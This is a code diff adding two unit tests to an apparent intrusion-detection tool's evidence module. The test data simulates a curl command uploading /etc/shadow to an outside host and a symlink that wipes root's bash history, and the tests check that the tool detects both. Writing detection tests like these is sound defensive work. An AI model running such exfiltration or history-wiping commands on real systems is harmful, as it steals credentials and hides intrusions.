@@ -90,6 +90,16 @@ public sealed class EvidenceTests
     }
 
     [Fact]
+    public void What_was_sent_out_and_how_it_was_answered_are_shown()
+    {
+        var capture = Session();
+        Command(capture, 110, "/usr/bin/curl", "curl", "-T\0/etc/shadow\0http://203.0.113.9/").Openat(110, 3, "/etc/shadow").Read(110, 3)
+            .TcpSocket(110, 7).Connect(110, 7, "198.51.100.20:4000", "203.0.113.9:80").Write(110, 7, "PUT /").Write(110, 7, new string('x', 300)).Read(110, 7, "HTTP/1.1 200 OK").BringToLight();
+        Assert.Equal(["write", "write", "write", "write", "read", "read"], Evidence(capture, FindingKind.SentOut, out var kind).Where(type => type is "read" or "write"));
+        Assert.Equal(EvidenceKind.Bytes, kind);
+    }
+
+    [Fact]
     public void Two_folders_are_two_events_whatever_else_was_done()
     {
         var capture = Session();
@@ -106,6 +116,15 @@ public sealed class EvidenceTests
     {
         var capture = Session().Mkdir(102, "/dev/shm/. ").Mkdir(102, "/usr/lib/.x");
         Assert.Equal("made a hidden folder: \"/dev/shm/. \", /usr/lib/.x", What(Only(capture, "made_hidden_place")));
+    }
+
+    [Fact]
+    public void A_history_that_is_moved_to_nothing_is_cleared()
+    {
+        var capture = Session();
+        Command(capture, 110, "/usr/bin/ln", "ln", "-sf\0/dev/null\0/root/.bash_history")
+            .Event(EventCode.SyscallSymlinkX, 110, I64(0), Text("/dev/null"), Text("/root/CuLK8R")).Rename(110, "/root/CuLK8R", "/root/.bash_history");
+        Assert.Equal("cleared the history: /root/.bash_history", What(Only(capture, "cleared_history")));
     }
 
     [Fact]
